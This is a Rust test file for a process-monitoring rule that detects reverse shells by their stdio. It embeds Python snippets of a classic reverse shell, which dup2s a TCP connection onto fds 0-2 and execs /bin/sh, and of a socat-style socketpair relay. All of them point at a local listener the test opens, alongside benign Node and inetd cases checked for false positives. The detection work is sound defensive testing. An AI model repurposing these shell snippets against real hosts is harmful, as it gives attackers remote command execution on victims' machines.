//! Reverse shells by their stdio: a shell on a connected TCP socket fires; the AF_UNIX
//! socketpairs Node (npm, systemd, docker) gives its children as stdio, and a listener
//! handed over as stdin (inetd's wait mode), do not.

use std::collections::HashSet;
use std::process::{Command, Stdio};

use procflow::model::Record;

use super::{alerts, family, fired_on, observe, python};
use crate::util::Kids;

/// Connects to a listener of its own (the "attacker"), puts the connection on fds 0-2 and
/// becomes a shell: the classic reverse shell, with a command line that says nothing.
const REVERSE: &str = "import os,socket,time\nl=socket.socket(); l.bind(('127.0.0.1',0)); l.listen()\nif os.fork() == 0:\n    s=socket.create_connection(l.getsockname())\n    for fd in (0,1,2): os.dup2(s.fileno(), fd)\n    os.execv('/bin/sh', ['sh','-c','sleep 2; true'])\nc,_=l.accept(); time.sleep(3)";

/// Node starting a shell the way every Node app, npm script and supervisor does: its
/// stdio are AF_UNIX socketpairs.
const NODE: &str = "require('child_process').exec('sleep 2; true', () => {})";

/// A listener on stdin, as inetd's wait mode hands it over.
const INETD: &str = "import socket,subprocess\nl=socket.socket(); l.bind(('127.0.0.1',0)); l.listen()\nsubprocess.run(['/bin/sh','-c','sleep 2; true'], stdin=l.fileno())";

#[test]
fn a_shell_on_a_tcp_socket_fires_and_on_a_socketpair_or_a_listener_does_not() {
    let (records, kids) = observe(&[], || {
        Kids(vec![
            python(REVERSE, &[]),
            Command::new("node")
                .args(["-e", NODE])
                .stdout(Stdio::null())
                .spawn()
                .expect("node"),
            python(INETD, &[]),
        ])
    });
    let all = alerts(&records);
    let attack = family(&[kids.0[0].id()], &records);
    assert!(fired_on(&all, "PF-REVERSE-SHELL-STDIO", &attack), "{all:?}");
    for (i, what) in [(1, "node's socketpair"), (2, "an inetd listener")] {
        let benign = family(&[kids.0[i].id()], &records);
        // The shell was read with fd access and its stdio judged, not left unknown.
        let judged: HashSet<u32> = records
            .iter()
            .filter_map(|r| match r {
                Record::Process(p)
                    if benign.contains(&p.pid)
                        && p.comm == b"sh"
                        && p.stdio_is_socket == Some(false) =>
                {
                    Some(p.pid)
                }
                _ => None,
            })
            .collect();
        assert!(!judged.is_empty(), "{what}: its shell was not seen");
        assert!(
            !fired_on(&all, "PF-REVERSE-SHELL-STDIO", &benign),
            "{what}: {all:?}"
        );
    }
}

/// A relay in socat's `EXEC:` shape, run from a script file so its command line says
/// nothing: it connects, and hands the shell one end of a socketpair as stdin, stdout and
/// stderr, holding the other end beside the connection. With `none` it makes no
/// connection (a socketpair to a child, nothing relayed).
const RELAY: &str = "import os,socket,sys,time\nif sys.argv[1] != 'none': s=socket.create_connection(('127.0.0.1', int(sys.argv[1])))\na,b=socket.socketpair()\nif os.fork() == 0:\n    for fd in (0,1,2): os.dup2(b.fileno(), fd)\n    os.execv('/bin/sh', ['sh','-c','sleep 2; true'])\nb.close(); time.sleep(3)\n";

/// Node with a connection of its own starting a shell: each stdio fd its own socketpair.
const NODE_CONNECTED: &str = "const s=require('net').connect(+process.argv[1],'127.0.0.1',()=>require('child_process').exec('sleep 2; true',()=>s.destroy()))";

/// Review D3: a renamed or scripted socat relay gives the shell a socketpair, not the
/// connection; the socketpair's other end, held by a process with a connection, is what
/// tells. A socketpair to a parent without a connection, and Node's stdio socketpairs
/// beside a connection of its own, do not fire.
#[test]
fn a_shell_relayed_to_a_connection_through_a_socketpair_fires_and_its_twins_do_not() {
    let dir = super::scratch_dir();
    let relay = dir.path().join("relay.py");
    std::fs::write(&relay, RELAY).expect("relay");
    let attacker = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    let port = attacker.local_addr().expect("addr").port().to_string();
    let run = |arg: &str| {
        Command::new(super::PY)
            .arg(&relay)
            .arg(arg)
            .stdout(Stdio::null())
            .spawn()
            .expect("relay")
    };
    let (records, kids) = observe(&[], || {
        Kids(vec![
            run(&port),
            run("none"),
            Command::new("node")
                .args(["-e", NODE_CONNECTED, &port])
                .stdout(Stdio::null())
                .spawn()
                .expect("node"),
        ])
    });
    drop(attacker);
    let all = alerts(&records);
    let attack = family(&[kids.0[0].id()], &records);
    assert!(fired_on(&all, "PF-REVERSE-SHELL-STDIO", &attack), "{all:?}");
    for (i, what) in [
        (1, "a socketpair without a connection"),
        (2, "node's stdio"),
    ] {
        let benign = family(&[kids.0[i].id()], &records);
        let judged = records.iter().any(|r| {
            matches!(r, Record::Process(p) if benign.contains(&p.pid) && p.comm == b"sh" && p.stdio_is_socket.is_some())
        });
        assert!(judged, "{what}: its shell was not seen with fd access");
        assert!(
            !fired_on(&all, "PF-REVERSE-SHELL-STDIO", &benign),
            "{what}: {all:?}"
        );
    }
}
